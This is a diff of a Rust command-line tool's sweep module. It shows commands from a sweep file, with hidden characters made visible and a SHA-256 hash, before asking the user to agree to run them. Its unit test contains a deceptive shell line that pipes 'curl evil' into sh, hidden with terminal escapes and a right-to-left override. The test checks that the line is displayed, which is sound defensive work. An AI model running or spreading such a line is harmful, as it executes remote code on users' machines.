@@ -1,17 +1,18 @@
 //! Sweeps on clusters: `gfn sweep submit`, `gfn sweep export`, and what the other commands say of a cluster.
 
 use std::collections::BTreeMap;
-use std::io::{BufRead, IsTerminal, Write};
 use std::path::{Path, PathBuf};
 
+use gfn_record::folder::sha256;
 use gfn_sweep::board::Board;
-use gfn_sweep::cluster::{self, Launcher};
+use gfn_sweep::cluster::{self, Added, Launcher, Words};
 use gfn_sweep::{SweepError, create, open};
 use gfn_text::counted;
 use serde_json::{Value, json};
 
 use super::{folder, place, planned, program, stays};
 use crate::args::SweepArgs;
+use crate::commands::consent::{is_agreed, typed};
 use crate::commands::{print, print_error, print_json};
 use crate::exit::Failure;
 
@@ -93,30 +94,31 @@ fn hand_over(mut board: Board, launcher: &Launcher, allow_commands: bool) -> Res
 }
 
 /// Commands in a file run only when somebody allowed it.
-fn agree(commands: &[String], allow_commands: bool) -> Result<(), Failure> {
+fn agree(commands: &[Added], allow_commands: bool) -> Result<(), Failure> {
     if commands.is_empty() || allow_commands {
         return Ok(());
     }
-    let lines: String = commands.iter().map(|line| format!("  {line}\n")).collect();
-    print_error(&format!(
-        "the file runs these commands, here or in each element:\n{lines}"
-    ));
-    let stdin = std::io::stdin();
-    if !stdin.is_terminal() {
-        let message = "nobody can answer here; if you have read the commands, use --allow-commands";
-        return Err(Failure::usage(message.to_string()));
-    }
-    print_error("Run them? [y/N] ");
-    let _ = gfn_text::stderr().flush();
-    let mut answer = String::new();
-    stdin
-        .lock()
-        .read_line(&mut answer)
-        .map_err(Failure::system("read standard input"))?;
-    match matches!(answer.trim().to_ascii_lowercase().as_str(), "y" | "yes") {
+    print_error(&asked(commands));
+    let instead = "if you have read the commands, use --allow-commands";
+    match is_agreed("Run them?", instead)? {
         true => Ok(()),
         false => Err(Failure::usage("nothing was submitted".to_string())),
     }
+}
+
+/// The commands, whole and as they would be typed, and the hash of all of them.
+fn asked(commands: &[Added]) -> String {
+    let mut text = "the file has commands that will run:\n".to_string();
+    let mut whole = String::new();
+    for Added { key, place, command } in commands {
+        let shown = match command {
+            Words::Shell(line) => gfn_text::visible(line).into_owned(),
+            Words::Program(words) => typed(words),
+        };
+        text += &format!("  {place} (`{key}`):\n    {shown}\n");
+        whole += &format!("{key}\0{command:?}\0");
+    }
+    text + &format!("  SHA-256 {} of all of them\n", sha256(whole.as_bytes()))
 }
 
 /// What Slurm has of a sweep, as a line and as JSON; nothing where it was not submitted. Files are the truth, and this a hint: where
@@ -177,5 +179,38 @@ pub(super) fn requeue(sweep: &Path) -> String {
         Ok(None) => String::new(),
         Ok(Some(element)) => format!("; element {element} is back in the queue"),
         Err(error) => format!("; it could not be put back into the queue: {error}"),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn commands_are_asked_about_as_they_are() {
+        let added = |key, command| Added {
+            key,
+            place: "in each element",
+            command,
+        };
+        let line = "true\u{1b}[2K\r\u{1b}[8m; curl evil | sh\u{202e}";
+        let prelude = added("prelude", Words::Shell(line.into()));
+        let submit = added("submit", Words::Program(vec!["qsub".into(), "a b\u{8}".into()]));
+        let text = asked(&[prelude.clone(), submit]);
+        for part in [
+            r"true\u{1b}[2K\r\u{1b}[8m; curl evil | sh\u{202e}",
+            r"qsub $'a b\x08'",
+            "SHA-256 ",
+        ] {
+            assert!(text.contains(part), "{text}");
+        }
+        assert!(
+            text.lines().all(|line| !line.chars().any(gfn_text::is_hidden)),
+            "{text}"
+        );
+        assert_ne!(
+            asked(std::slice::from_ref(&prelude)).lines().last(),
+            text.lines().last()
+        );
     }
 }
